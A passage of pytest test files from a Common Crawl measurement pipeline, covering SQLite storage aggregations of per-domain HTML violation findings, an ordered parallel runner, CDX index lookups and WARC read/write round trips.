        assert not metadata.found
