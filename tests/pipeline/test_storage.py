"""Storage layer tests: schema, writes, and every aggregation query."""
from __future__ import annotations

import pytest

from repro.pipeline import Storage


@pytest.fixture()
def populated():
    """Two snapshots, three domains, hand-written findings."""
    storage = Storage(":memory:")
    snap15 = storage.add_snapshot("CC-MAIN-2015-14", 2015)
    snap22 = storage.add_snapshot("CC-MAIN-2022-05", 2022)
    alpha = storage.add_domain("alpha.com", 10)
    beta = storage.add_domain("beta.com", 20)
    gamma = storage.add_domain("gamma.com", 30)

    # 2015: alpha violates FB2+HF4 on one page; beta clean; gamma absent
    storage.set_domain_status(snap15, alpha, found=True, analyzed=True, pages=2)
    storage.set_domain_status(snap15, beta, found=True, analyzed=True, pages=1)
    storage.set_domain_status(snap15, gamma, found=False, analyzed=False, pages=0)
    page = storage.add_page(snap15, alpha, "http://alpha.com/", utf8=True, checked=True)
    storage.add_findings(page, {"FB2": 2, "HF4": 1})
    storage.add_mitigations(page, script_in_attr=1, nonced=0, urls_nl=2, urls_nl_lt=1)
    storage.add_page(snap15, alpha, "http://alpha.com/2", utf8=True, checked=True)
    storage.add_page(snap15, beta, "http://beta.com/", utf8=True, checked=True)

    # 2022: alpha clean; beta violates FB2 only; gamma violates DM3
    storage.set_domain_status(snap22, alpha, found=True, analyzed=True, pages=1)
    storage.set_domain_status(snap22, beta, found=True, analyzed=True, pages=1)
    storage.set_domain_status(snap22, gamma, found=True, analyzed=True, pages=1)
    storage.add_page(snap22, alpha, "http://alpha.com/", utf8=True, checked=True)
    page = storage.add_page(snap22, beta, "http://beta.com/", utf8=True, checked=True)
    storage.add_findings(page, {"FB2": 1})
    page = storage.add_page(snap22, gamma, "http://gamma.com/", utf8=False, checked=False)
    page = storage.add_page(snap22, gamma, "http://gamma.com/2", utf8=True, checked=True)
    storage.add_findings(page, {"DM3": 3})
    storage.commit()
    yield storage
    storage.close()


class TestWrites:
    def test_snapshot_idempotent(self, populated):
        first = populated.add_snapshot("CC-MAIN-2015-14", 2015)
        second = populated.add_snapshot("CC-MAIN-2015-14", 2015)
        assert first == second

    def test_domain_idempotent(self, populated):
        assert populated.add_domain("alpha.com") == populated.add_domain("alpha.com")

    def test_snapshot_lookup_by_year(self, populated):
        assert populated.snapshot_id_by_year(2015)
        with pytest.raises(KeyError):
            populated.snapshot_id_by_year(1999)


class TestAggregations:
    def test_dataset_stats(self, populated):
        rows = populated.dataset_stats()
        assert [row["year"] for row in rows] == [2015, 2022]
        assert rows[0]["found"] == 2
        assert rows[0]["analyzed"] == 2
        assert rows[0]["avg_pages"] == 1.5
        assert rows[1]["found"] == 3

    def test_total_domains_analyzed(self, populated):
        assert populated.total_domains_analyzed() == 3

    def test_analyzed_domains_per_year(self, populated):
        assert populated.analyzed_domains(2015) == 2
        assert populated.analyzed_domains(2022) == 3

    def test_violation_domain_counts_union(self, populated):
        counts = populated.violation_domain_counts()
        assert counts["FB2"] == 2      # alpha (2015) + beta (2022)
        assert counts["HF4"] == 1
        assert counts["DM3"] == 1

    def test_violation_domain_counts_per_year(self, populated):
        assert populated.violation_domain_counts(2015)["FB2"] == 1
        assert populated.violation_domain_counts(2022)["FB2"] == 1
        assert "HF4" not in populated.violation_domain_counts(2022)

    def test_domains_with_any_violation(self, populated):
        assert populated.domains_with_any_violation() == 3
        assert populated.domains_with_any_violation(2015) == 1
        assert populated.domains_with_any_violation(2022) == 2

    def test_domains_with_violations_in(self, populated):
        assert populated.domains_with_violations_in(("FB2", "FB1"), 2022) == 1
        assert populated.domains_with_violations_in(("DM3",), 2022) == 1
        assert populated.domains_with_violations_in((), 2022) == 0

    def test_domain_violation_sets(self, populated):
        sets_2022 = populated.domain_violation_sets(2022)
        assert sorted(map(sorted, sets_2022.values())) == [["DM3"], ["FB2"]]

    def test_mitigation_domain_counts(self, populated):
        counts = populated.mitigation_domain_counts(2015)
        assert counts["script_in_attr"] == 1
        assert counts["nonced_script_in_attr"] == 0
        assert counts["nl_in_url"] == 1
        assert counts["nl_lt_in_url"] == 1
        assert populated.mitigation_domain_counts(2022)["nl_in_url"] == 0

    def test_utf8_filter_stats(self, populated):
        utf8, non_utf8 = populated.utf8_filter_stats()
        assert utf8 == 6
        assert non_utf8 == 1

    def test_declared_encoding_distribution(self, populated):
        distribution = populated.declared_encoding_distribution()
        # the fixture writes pages without declarations
        assert distribution == {"(undeclared)": 7}

    def test_total_pages_checked(self, populated):
        assert populated.total_pages_checked() == 6


class TestPersistence:
    def test_on_disk_roundtrip(self, tmp_path):
        path = tmp_path / "results.sqlite"
        with Storage(path) as storage:
            snap = storage.add_snapshot("S", 2020)
            domain = storage.add_domain("x.com")
            storage.set_domain_status(snap, domain, found=True, analyzed=True, pages=1)
            page = storage.add_page(snap, domain, "http://x.com/", utf8=True, checked=True)
            storage.add_findings(page, {"FB1": 1})
            storage.commit()
        with Storage(path) as storage:
            assert storage.violation_domain_counts()["FB1"] == 1


class TestTuning:
    def test_tuned_on_disk_uses_wal_and_normal_sync(self, tmp_path):
        with Storage(tmp_path / "tuned.sqlite") as storage:
            journal = storage.conn.execute("PRAGMA journal_mode").fetchone()[0]
            sync = storage.conn.execute("PRAGMA synchronous").fetchone()[0]
            assert journal == "wal"
            assert sync == 1  # NORMAL

    def test_untuned_keeps_sqlite_defaults(self, tmp_path):
        with Storage(tmp_path / "plain.sqlite", tuned=False) as storage:
            journal = storage.conn.execute("PRAGMA journal_mode").fetchone()[0]
            sync = storage.conn.execute("PRAGMA synchronous").fetchone()[0]
            assert journal == "delete"
            assert sync == 2  # FULL

    def test_indexes_exist_only_when_tuned(self, tmp_path):
        def index_names(storage):
            rows = storage.conn.execute(
                "SELECT name FROM sqlite_master WHERE type = 'index'"
                " AND name LIKE 'idx_%'"
            ).fetchall()
            return {row[0] for row in rows}

        with Storage(tmp_path / "tuned.sqlite") as storage:
            names = index_names(storage)
            assert "idx_findings_violation_page" in names
            assert "idx_findings_page" in names
        with Storage(tmp_path / "plain.sqlite", tuned=False) as storage:
            assert index_names(storage) == set()

    def test_untuned_storage_answers_the_same_queries(self, tmp_path):
        with Storage(tmp_path / "plain.sqlite", tuned=False) as storage:
            snap = storage.add_snapshot("S", 2020)
            domain = storage.add_domain("x.com")
            storage.set_domain_status(
                snap, domain, found=True, analyzed=True, pages=1
            )
            page = storage.add_page(
                snap, domain, "http://x.com/", utf8=True, checked=True
            )
            storage.add_findings(page, {"FB1": 1, "DM3": 2})
            storage.commit()
            assert storage.violation_domain_counts() == {"FB1": 1, "DM3": 1}
            assert storage.total_pages_checked() == 1
