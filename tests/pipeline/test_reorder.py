"""Unit tests for the deterministic reorder buffer and streamed_map."""
from __future__ import annotations

import random
import threading
from concurrent.futures import ThreadPoolExecutor

import pytest

from repro.pipeline.reorder import ReorderBuffer, streamed_map


class TestReorderBuffer:
    def test_in_order_passthrough(self):
        buffer = ReorderBuffer()
        released = []
        for index in range(5):
            buffer.add(index, f"item{index}")
            released.extend(buffer.drain())
        assert released == [(i, f"item{i}") for i in range(5)]

    def test_out_of_order_release(self):
        buffer = ReorderBuffer()
        buffer.add(2, "c")
        buffer.add(1, "b")
        assert list(buffer.drain()) == []
        assert len(buffer) == 2
        buffer.add(0, "a")
        assert list(buffer.drain()) == [(0, "a"), (1, "b"), (2, "c")]
        assert len(buffer) == 0
        assert buffer.next_index == 3

    def test_random_permutations_release_in_order(self):
        rng = random.Random(99)
        for _ in range(50):
            size = rng.randrange(1, 30)
            order = list(range(size))
            rng.shuffle(order)
            buffer = ReorderBuffer()
            released = []
            for index in order:
                buffer.add(index, index)
                released.extend(item for _i, item in buffer.drain())
            assert released == list(range(size))

    def test_duplicate_index_rejected(self):
        buffer = ReorderBuffer()
        buffer.add(0, "a")
        with pytest.raises(ValueError):
            buffer.add(0, "again")

    def test_drained_index_rejected(self):
        buffer = ReorderBuffer()
        buffer.add(0, "a")
        list(buffer.drain())
        with pytest.raises(ValueError):
            buffer.add(0, "late")

    def test_start_offset(self):
        buffer = ReorderBuffer(start=10)
        buffer.add(10, "x")
        assert list(buffer.drain()) == [(10, "x")]


def _scrambled_sleep(value: int) -> int:
    # later tasks finish earlier: deliberately adversarial completion order
    import time

    time.sleep((7 - value % 8) * 0.002)
    return value * value


class TestStreamedMap:
    def test_results_in_submission_order(self):
        with ThreadPoolExecutor(max_workers=4) as pool:
            submit = lambda task: pool.submit(_scrambled_sleep, task)
            results = list(streamed_map(submit, list(range(24)), window=6))
        assert results == [value * value for value in range(24)]

    @pytest.mark.parametrize("window", [1, 2, 5, 100])
    def test_any_window_preserves_order(self, window):
        with ThreadPoolExecutor(max_workers=3) as pool:
            submit = lambda task: pool.submit(_scrambled_sleep, task)
            results = list(streamed_map(submit, list(range(10)), window=window))
        assert results == [value * value for value in range(10)]

    def test_window_bounds_outstanding_tasks(self):
        """Never more than ``window`` tasks started but not yet yielded."""
        lock = threading.Lock()
        outstanding = {"now": 0, "peak": 0}

        def tracked(value: int) -> int:
            return value

        def submit(task):
            with lock:
                outstanding["now"] += 1
                outstanding["peak"] = max(outstanding["peak"], outstanding["now"])
            return pool.submit(tracked, task)

        with ThreadPoolExecutor(max_workers=8) as pool:
            for result in streamed_map(submit, list(range(40)), window=3):
                with lock:
                    outstanding["now"] -= 1
        assert outstanding["peak"] <= 3

    def test_empty_tasks(self):
        with ThreadPoolExecutor(max_workers=2) as pool:
            submit = lambda task: pool.submit(_scrambled_sleep, task)
            assert list(streamed_map(submit, [], window=4)) == []

    def test_invalid_window(self):
        with pytest.raises(ValueError):
            list(streamed_map(lambda task: None, [1], window=0))

    def test_exception_surfaces_at_ordered_position(self):
        def boom(value: int) -> int:
            if value == 3:
                raise RuntimeError("task 3 failed")
            return value

        with ThreadPoolExecutor(max_workers=4) as pool:
            submit = lambda task: pool.submit(boom, task)
            stream = streamed_map(submit, list(range(8)), window=8)
            collected = []
            with pytest.raises(RuntimeError, match="task 3 failed"):
                for result in stream:
                    collected.append(result)
        assert collected == [0, 1, 2]
