"""Parallel runner tests: results must be identical to the sequential
runner, independent of worker count."""
from __future__ import annotations

import pytest

from repro.commoncrawl import ArchiveBuilder, CorpusConfig, CorpusPlanner
from repro.pipeline import ParallelStudyRunner, Storage, StudyRunner


@pytest.fixture(scope="module")
def archive(tmp_path_factory):
    root = tmp_path_factory.mktemp("par-archive")
    config = CorpusConfig(num_domains=30, max_pages=3, seed=23,
                          years=(2015, 2022))
    plan = CorpusPlanner(config).plan()
    ArchiveBuilder(root).build(plan)
    return root, plan


def _snapshot(storage: Storage) -> dict:
    return {
        "dataset": storage.dataset_stats(),
        "counts_union": dict(storage.violation_domain_counts()),
        "counts_2022": dict(storage.violation_domain_counts(2022)),
        "any_2015": storage.domains_with_any_violation(2015),
        "any_2022": storage.domains_with_any_violation(2022),
        "mitigations": storage.mitigation_domain_counts(2022),
        "features": storage.element_usage_counts(2022),
        "utf8": storage.utf8_filter_stats(),
        "encodings": storage.declared_encoding_distribution(),
    }


class TestParallelEqualsSequential:
    def test_identical_results(self, archive):
        root, plan = archive
        domains = [(name, rank) for name, rank in plan.domains]

        from repro.commoncrawl import CommonCrawlClient

        with Storage(":memory:") as sequential_storage:
            StudyRunner(
                CommonCrawlClient(root), sequential_storage, max_pages=4
            ).run(domains)
            expected = _snapshot(sequential_storage)

        with Storage(":memory:") as parallel_storage:
            stats = ParallelStudyRunner(
                root, parallel_storage, max_pages=4, workers=3
            ).run(domains)
            actual = _snapshot(parallel_storage)

        assert stats.snapshots == 2
        assert stats.pages_checked > 0
        assert actual == expected

    def test_single_worker_also_identical(self, archive):
        root, plan = archive
        domains = [(name, rank) for name, rank in plan.domains]
        with Storage(":memory:") as a, Storage(":memory:") as b:
            ParallelStudyRunner(root, a, max_pages=4, workers=1).run(domains)
            ParallelStudyRunner(root, b, max_pages=4, workers=4).run(domains)
            assert _snapshot(a) == _snapshot(b)


class TestRunnerParity:
    """ParallelStudyRunner mirrors StudyRunner's run() interface."""

    def test_snapshot_ids_filter_matches_sequential(self, archive):
        root, plan = archive
        domains = [(name, rank) for name, rank in plan.domains]

        from repro.commoncrawl import CommonCrawlClient

        client = CommonCrawlClient(root)
        only = [client.collections()[-1].id]

        with Storage(":memory:") as sequential_storage:
            StudyRunner(client, sequential_storage, max_pages=4).run(
                domains, snapshot_ids=only
            )
            expected = _snapshot(sequential_storage)

        with Storage(":memory:") as parallel_storage:
            stats = ParallelStudyRunner(
                root, parallel_storage, max_pages=4, workers=3
            ).run(domains, snapshot_ids=only)
            actual = _snapshot(parallel_storage)

        assert stats.snapshots == 1
        assert actual == expected

    def test_unknown_snapshot_id_processes_nothing(self, archive):
        root, plan = archive
        domains = [(name, rank) for name, rank in plan.domains]
        with Storage(":memory:") as storage:
            stats = ParallelStudyRunner(
                root, storage, max_pages=4, workers=2
            ).run(domains, snapshot_ids=["no-such-snapshot"])
        assert stats.snapshots == 0
        assert stats.domains_processed == 0

    def test_progress_callback_and_throughput(self, archive):
        root, plan = archive
        domains = [(name, rank) for name, rank in plan.domains]
        calls: list[tuple[str, int, int]] = []

        with Storage(":memory:") as storage:
            stats = ParallelStudyRunner(
                root, storage, max_pages=4, workers=2,
                progress=lambda name, done, total: calls.append(
                    (name, done, total)
                ),
            ).run(domains)

        # one call per (snapshot, domain), counting up to the total
        assert len(calls) == stats.snapshots * len(domains)
        per_snapshot: dict[str, list[int]] = {}
        for name, done, total in calls:
            assert total == len(domains)
            per_snapshot.setdefault(name, []).append(done)
        for counts in per_snapshot.values():
            assert counts == list(range(1, len(domains) + 1))

        assert stats.seconds > 0.0
        assert stats.pages_per_second == pytest.approx(
            stats.pages_checked / stats.seconds
        )

    def test_measure_mitigations_flag_threads_to_workers(self, archive):
        """Sequential and parallel agree with mitigation measurement off,
        and the flag actually reaches the workers (no mitigations rows)."""
        root, plan = archive
        domains = [(name, rank) for name, rank in plan.domains]

        from repro.commoncrawl import CommonCrawlClient

        with Storage(":memory:") as sequential_storage:
            StudyRunner(
                CommonCrawlClient(root), sequential_storage, max_pages=4,
                measure_mitigations=False,
            ).run(domains)
            expected = _snapshot(sequential_storage)

        with Storage(":memory:") as parallel_storage:
            ParallelStudyRunner(
                root, parallel_storage, max_pages=4, workers=2,
                measure_mitigations=False,
            ).run(domains)
            actual = _snapshot(parallel_storage)
            rows = parallel_storage.conn.execute(
                "SELECT COUNT(*) FROM mitigations"
            ).fetchone()[0]

        assert rows == 0
        assert actual == expected

    def test_fetch_retries_threads_to_workers(self, archive):
        """fetch_retries reaches the worker globals and parity holds."""
        root, plan = archive
        domains = [(name, rank) for name, rank in plan.domains]

        from repro.commoncrawl import CommonCrawlClient
        from repro.pipeline import parallel

        # the initializer itself must install the knobs the worker reads
        parallel._init_worker(str(root), 5, False)
        try:
            assert parallel._fetch_retries == 5
            assert parallel._measure_mitigations is False
            snapshot_id = parallel._client.collections()[0].id
            name, _rank = plan.domains[0]
            result = parallel.process_domain(snapshot_id, name, 2)
            assert all(page.mitigation is None for page in result.pages)
        finally:
            parallel._init_worker(str(root))

        with Storage(":memory:") as sequential_storage:
            StudyRunner(
                CommonCrawlClient(root), sequential_storage, max_pages=4,
                fetch_retries=0,
            ).run(domains)
            expected = _snapshot(sequential_storage)

        with Storage(":memory:") as parallel_storage:
            ParallelStudyRunner(
                root, parallel_storage, max_pages=4, workers=2,
                fetch_retries=0,
            ).run(domains)
            assert _snapshot(parallel_storage) == expected


def _dump(storage: Storage) -> str:
    return "\n".join(storage.conn.iterdump())


class TestBitIdenticalSQLite:
    """The acceptance bar: not just equal aggregates — equal databases.

    ``iterdump`` serializes every table row (including autoincrement ids),
    so equality proves the batched parallel writes assign the exact ids
    the sequential row-at-a-time writes do, for any worker count.
    """

    @pytest.fixture(scope="class")
    def sequential_dump(self, archive):
        root, plan = archive
        domains = [(name, rank) for name, rank in plan.domains]

        from repro.commoncrawl import CommonCrawlClient

        with Storage(":memory:") as storage:
            StudyRunner(
                CommonCrawlClient(root), storage, max_pages=4
            ).run(domains)
            return _dump(storage)

    @pytest.mark.parametrize("workers", [1, 2, 4])
    def test_parallel_matches_sequential_bit_for_bit(
        self, archive, sequential_dump, workers
    ):
        root, plan = archive
        domains = [(name, rank) for name, rank in plan.domains]
        with Storage(":memory:") as storage:
            ParallelStudyRunner(
                root, storage, max_pages=4, workers=workers
            ).run(domains)
            assert _dump(storage) == sequential_dump

    def test_tiny_window_still_bit_identical(self, archive, sequential_dump):
        """window=1 forces maximum back-pressure; ordering must survive."""
        root, plan = archive
        domains = [(name, rank) for name, rank in plan.domains]
        with Storage(":memory:") as storage:
            ParallelStudyRunner(
                root, storage, max_pages=4, workers=2, window=1
            ).run(domains)
            assert _dump(storage) == sequential_dump
