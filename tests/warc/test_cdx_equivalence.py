"""Machine-checked equivalence: MMapCDXIndex vs the linear reference.

Mirrors ``tests/html/test_tokenizer_equivalence.py``: the binary-search
index is fast because of a stack of assumptions (byte-sorted lines ≡
tuple-sorted entries, prefix runs are contiguous, keys end at the first
space) — this suite doesn't argue those assumptions, it diffs the two
implementations over generated corpora and the adversarial layouts most
likely to break them.
"""
from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.warc import (
    CDXEntry,
    CDXFormatError,
    CDXIndex,
    CDXWriter,
    MMapCDXIndex,
    domain_prefix,
    surt,
)

# Deliberately overlapping pool: example.com is a string prefix of
# examples.com, and sub.example.com SURTs under com,example, — the cases
# where a naive prefix range over-matches.
DOMAINS = [
    "example.com",
    "examples.com",
    "example.co",
    "sub.example.com",
    "a.org",
    "aa.org",
    "zz.net",
]
PATHS = ["/", "/index.html", "/a", "/a/b", "/a?x=1", "/%7euser"]
TIMESTAMPS = ["20150214000000", "20180101120000", "20220301235959"]


def _entry(domain: str, path: str, timestamp: str, serial: int) -> CDXEntry:
    url = f"http://{domain}{path}"
    return CDXEntry(
        urlkey=surt(url),
        timestamp=timestamp,
        url=url,
        mime="text/html",
        status=200,
        digest=f"sha1:{serial:08d}",
        length=100 + serial,
        offset=serial * 512,
        filename="data/seg-00000.warc.gz",
    )


def _write(tmp_path, entries):
    writer = CDXWriter()
    for entry in entries:
        writer.add(entry)
    path = tmp_path / "index.cdxj"
    writer.write(path)
    return path


def _assert_equivalent(path) -> None:
    linear = CDXIndex.load(path)
    with MMapCDXIndex.open(path) as mapped:
        assert len(mapped) == len(linear)
        assert list(mapped.entries()) == linear.entries
        for domain in DOMAINS + ["missing.example", "com", "example"]:
            assert list(mapped.domain_query(domain)) == list(
                linear.domain_query(domain)
            ), domain
            for limit in (1, 2, None):
                assert list(mapped.domain_query(domain, limit=limit)) == list(
                    linear.domain_query(domain, limit=limit)
                ), (domain, limit)
        for domain in DOMAINS:
            for url_path in PATHS[:3]:
                url = f"http://{domain}{url_path}"
                assert mapped.lookup(url) == linear.lookup(url), url


corpus_strategy = st.lists(
    st.tuples(
        st.sampled_from(DOMAINS),
        st.sampled_from(PATHS),
        st.sampled_from(TIMESTAMPS),
    ),
    min_size=0,
    max_size=60,
)


class TestGeneratedCorpora:
    @settings(max_examples=60, deadline=None)
    @given(captures=corpus_strategy)
    def test_lookup_and_domain_query_equivalent(self, captures, tmp_path_factory):
        tmp_path = tmp_path_factory.mktemp("cdx-eq")
        entries = [
            _entry(domain, path, timestamp, serial)
            for serial, (domain, path, timestamp) in enumerate(captures)
        ]
        _assert_equivalent(_write(tmp_path, entries))


class TestAdversarialLayouts:
    def test_empty_index(self, tmp_path):
        path = tmp_path / "empty.cdxj"
        path.write_text("")
        _assert_equivalent(path)

    def test_single_entry(self, tmp_path):
        _assert_equivalent(_write(tmp_path, [_entry("a.org", "/", TIMESTAMPS[0], 0)]))

    def test_prefix_of_a_key_domain_does_not_overmatch(self, tmp_path):
        """example.com must not absorb examples.com (or example.co miss)."""
        entries = [
            _entry("example.com", "/", TIMESTAMPS[0], 0),
            _entry("examples.com", "/", TIMESTAMPS[0], 1),
            _entry("example.co", "/", TIMESTAMPS[0], 2),
        ]
        path = _write(tmp_path, entries)
        _assert_equivalent(path)
        with MMapCDXIndex.open(path) as mapped:
            hits = [entry.url for entry in mapped.domain_query("example.com")]
        assert hits == ["http://example.com/"]

    def test_duplicate_urlkeys_all_returned(self, tmp_path):
        """Same URL captured at many timestamps: lookup returns every one,
        in timestamp order, from both implementations."""
        entries = [
            _entry("a.org", "/dup", timestamp, serial)
            for serial, timestamp in enumerate(TIMESTAMPS * 3)
        ]
        path = _write(tmp_path, entries)
        _assert_equivalent(path)
        with MMapCDXIndex.open(path) as mapped:
            hits = mapped.lookup("http://a.org/dup")
        assert len(hits) == 9
        assert [hit.timestamp for hit in hits] == sorted(
            timestamp for timestamp in TIMESTAMPS * 3
        )

    def test_first_and_last_line_reachable(self, tmp_path):
        """Bisect edges: the very first and very last key must be found."""
        entries = [
            _entry(domain, "/", TIMESTAMPS[0], serial)
            for serial, domain in enumerate(DOMAINS)
        ]
        path = _write(tmp_path, entries)
        linear = CDXIndex.load(path)
        first, last = linear.entries[0], linear.entries[-1]
        with MMapCDXIndex.open(path) as mapped:
            assert mapped.lookup(first.url) == linear.lookup(first.url)
            assert mapped.lookup(last.url) == linear.lookup(last.url)

    def test_crlf_and_blank_lines_tolerated(self, tmp_path):
        entries = [
            _entry("a.org", "/", TIMESTAMPS[0], 0),
            _entry("zz.net", "/", TIMESTAMPS[1], 1),
        ]
        path = _write(tmp_path, entries)
        lines = path.read_text().splitlines()
        path.write_text("\r\n".join(lines) + "\r\n\r\n\n")
        _assert_equivalent(path)

    def test_trailing_line_without_newline(self, tmp_path):
        entries = [_entry("a.org", "/", TIMESTAMPS[0], 0)]
        path = _write(tmp_path, entries)
        path.write_text(path.read_text().rstrip("\n"))
        _assert_equivalent(path)

    def test_malformed_line_raises_on_touch(self, tmp_path):
        """Parse errors are deferred from open() to first entry access —
        and still surface as the typed CDXFormatError."""
        path = tmp_path / "bad.cdxj"
        path.write_text("com,broken)/ 20150101000000 not-json\n")
        with MMapCDXIndex.open(path) as mapped:
            assert len(mapped) == 1
            assert mapped.key_at(0) == "com,broken)/"
            with pytest.raises(CDXFormatError):
                mapped.entry_at(0)

    def test_fast_line_parse_matches_reference(self, tmp_path):
        """parse_cdx_line's canonical fast path and CDXEntry.from_line
        agree field-for-field; values JSON must escape fall back."""
        from repro.warc.cdx import parse_cdx_line

        plain = _entry("example.com", "/a?x=1", TIMESTAMPS[0], 7)
        tricky = CDXEntry(
            urlkey=surt('http://example.com/q?note="quoted"'),
            timestamp=TIMESTAMPS[1],
            url='http://example.com/q?note="quoted"\\end',
            mime="text/html",
            status=200,
            digest="sha1:TRICKY",
            length=7,
            offset=99,
            filename="seg\\odd.warc.gz",
        )
        for entry in (plain, tricky):
            line = entry.to_line()
            assert parse_cdx_line(line) == CDXEntry.from_line(line) == entry

    def test_fast_line_parse_malformed_raises_typed(self):
        from repro.warc.cdx import parse_cdx_line

        with pytest.raises(CDXFormatError):
            parse_cdx_line("com,broken)/ 20150101000000 not-json")

    def test_domain_prefix_ends_at_host_terminator(self):
        assert domain_prefix("example.com") == "com,example)"
        assert domain_prefix("sub.example.com") == "com,example,sub)"
        assert not domain_prefix("example.com").startswith(
            domain_prefix("examples.com")
        )
