"""WARC/1.0 substrate tests: records, writer/reader round trips, random
access, and CDX indexing."""
from __future__ import annotations

import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.warc import (
    CDXEntry,
    CDXIndex,
    CDXWriter,
    WARCFormatError,
    WARCRecord,
    WARCWriter,
    iter_records,
    parse_http_response,
    read_record_at,
    surt,
)


def make_record(index: int = 0, payload: bytes = b"<html>x</html>") -> WARCRecord:
    return WARCRecord.response(
        f"http://example.com/page{index}", payload, "2015-03-20T10:00:00Z"
    )


class TestRecord:
    def test_response_record_headers(self):
        record = make_record()
        assert record.record_type == "response"
        assert record.target_uri == "http://example.com/page0"
        assert record.date == "2015-03-20T10:00:00Z"
        assert record.headers["WARC-Record-ID"].startswith("<urn:uuid:")

    def test_payload_strips_http_envelope(self):
        record = make_record(payload=b"BODY")
        assert record.payload == b"BODY"
        assert b"HTTP/1.1 200" in record.content

    def test_payload_digest_stable(self):
        a = make_record(payload=b"same")
        b = make_record(1, payload=b"same")
        assert a.payload_digest == b.payload_digest
        assert a.payload_digest.startswith("sha1:")

    def test_http_response_parse(self):
        response = parse_http_response(
            b"HTTP/1.1 404 Not Found\r\nContent-Type: text/html\r\n\r\nmissing"
        )
        assert response.status_code == 404
        assert response.reason == "Not Found"
        assert response.content_type == "text/html"
        assert response.body == b"missing"

    def test_http_response_header_case_insensitive(self):
        response = parse_http_response(
            b"HTTP/1.1 200 OK\r\ncontent-type: a/b\r\n\r\n"
        )
        assert response.get_header("Content-Type") == "a/b"

    def test_malformed_http_returns_none(self):
        assert parse_http_response(b"not http at all") is None
        assert parse_http_response(b"GARBAGE 200\r\n\r\nx") is None

    def test_angle_bracket_uri_unwrapped(self):
        record = WARCRecord(headers={"WARC-Target-URI": "<http://a/>"})
        assert record.target_uri == "http://a/"

    def test_warcinfo(self):
        record = WARCRecord.warcinfo("f.warc.gz", "2020-01-01T00:00:00Z",
                                     {"software": "test"})
        assert record.record_type == "warcinfo"
        assert b"software: test" in record.content


class TestWriterReader:
    def test_gzip_roundtrip(self):
        buffer = io.BytesIO()
        writer = WARCWriter(buffer)
        for index in range(5):
            writer.write_record(make_record(index))
        records = list(iter_records(io.BytesIO(buffer.getvalue())))
        assert len(records) == 5
        assert [r.target_uri for r in records] == [
            f"http://example.com/page{i}" for i in range(5)
        ]

    def test_plain_roundtrip(self):
        buffer = io.BytesIO()
        writer = WARCWriter(buffer, use_gzip=False)
        writer.write_record(make_record())
        records = list(iter_records(io.BytesIO(buffer.getvalue())))
        assert len(records) == 1

    def test_offsets_strictly_increasing(self):
        buffer = io.BytesIO()
        writer = WARCWriter(buffer)
        spans = [writer.write_record(make_record(i)) for i in range(4)]
        for (off_a, len_a), (off_b, _len_b) in zip(spans, spans[1:]):
            assert off_a + len_a == off_b

    def test_random_access(self, tmp_path):
        path = tmp_path / "t.warc.gz"
        with open(path, "wb") as stream:
            writer = WARCWriter(stream)
            spans = [writer.write_record(make_record(i, f"p{i}".encode()))
                     for i in range(10)]
        record = read_record_at(path, *spans[7])
        assert record.payload == b"p7"

    def test_random_access_plain(self, tmp_path):
        path = tmp_path / "t.warc"
        with open(path, "wb") as stream:
            writer = WARCWriter(stream, use_gzip=False)
            span = writer.write_record(make_record(3, b"three"))
        assert read_record_at(path, *span).payload == b"three"

    def test_truncated_slice_raises(self, tmp_path):
        path = tmp_path / "t.warc.gz"
        with open(path, "wb") as stream:
            writer = WARCWriter(stream)
            offset, length = writer.write_record(make_record())
        with pytest.raises(WARCFormatError):
            read_record_at(path, offset, length + 100)

    def test_bad_stream_raises(self):
        with pytest.raises(WARCFormatError):
            list(iter_records(io.BytesIO(b"NOT A WARC\r\n\r\n")))

    def test_empty_stream_yields_nothing(self):
        assert list(iter_records(io.BytesIO(b""))) == []

    @given(
        st.lists(
            st.binary(min_size=0, max_size=500),
            min_size=1,
            max_size=8,
        )
    )
    @settings(max_examples=50, deadline=None)
    def test_arbitrary_payload_roundtrip(self, payloads):
        buffer = io.BytesIO()
        writer = WARCWriter(buffer)
        for index, payload in enumerate(payloads):
            writer.write_record(make_record(index, payload))
        records = list(iter_records(io.BytesIO(buffer.getvalue())))
        assert [record.payload for record in records] == payloads


class TestSurt:
    @pytest.mark.parametrize(
        ("url", "expected"),
        [
            ("http://www.example.com/path?Q=1", "com,example)/path?q=1"),
            ("https://example.com/", "com,example)/"),
            ("http://sub.example.co.uk/A/B", "uk,co,example,sub)/a/b"),
            ("example.com/x", "com,example)/x"),
        ],
    )
    def test_canonicalization(self, url, expected):
        assert surt(url) == expected

    def test_www_stripped(self):
        assert surt("http://www.a.com/") == surt("http://a.com/")


class TestCDX:
    def make_entries(self):
        return [
            CDXEntry(
                urlkey=surt(f"http://site{site}.com/p{page}"),
                timestamp=f"2015031{page}000000",
                url=f"http://site{site}.com/p{page}",
                mime="text/html",
                status=200,
                digest="sha1:x",
                length=100 + page,
                offset=page * 1000,
                filename="part-00000.warc.gz",
            )
            for site in range(3)
            for page in range(4)
        ]

    def test_write_load_roundtrip(self, tmp_path):
        writer = CDXWriter()
        for entry in self.make_entries():
            writer.add(entry)
        path = tmp_path / "index.cdxj"
        count = writer.write(path)
        index = CDXIndex.load(path)
        assert len(index) == count == 12

    def test_sorted_by_urlkey(self, tmp_path):
        writer = CDXWriter()
        for entry in reversed(self.make_entries()):
            writer.add(entry)
        path = tmp_path / "index.cdxj"
        writer.write(path)
        lines = path.read_text().splitlines()
        assert lines == sorted(lines)

    def test_exact_lookup(self):
        index = CDXIndex(self.make_entries())
        hits = index.lookup("http://site1.com/p2")
        assert len(hits) == 1
        assert hits[0].offset == 2000

    def test_domain_query(self):
        index = CDXIndex(self.make_entries())
        hits = list(index.domain_query("site1.com"))
        assert len(hits) == 4
        assert all("site1" in hit.url for hit in hits)

    def test_domain_query_limit(self):
        index = CDXIndex(self.make_entries())
        assert len(list(index.domain_query("site1.com", limit=2))) == 2

    def test_domain_query_no_cross_domain_prefix(self):
        entries = self.make_entries()
        entries.append(
            CDXEntry(
                urlkey=surt("http://site11.com/x"), timestamp="20150101000000",
                url="http://site11.com/x", mime="text/html", status=200,
                digest="d", length=1, offset=0, filename="f",
            )
        )
        index = CDXIndex(entries)
        assert all(
            "site11" not in hit.url for hit in index.domain_query("site1.com")
        )

    def test_line_roundtrip(self):
        entry = self.make_entries()[0]
        assert CDXEntry.from_line(entry.to_line()) == entry
