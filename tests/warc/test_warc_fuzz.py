"""Corruption fuzzing of the WARC reader: typed errors, never raw ones.

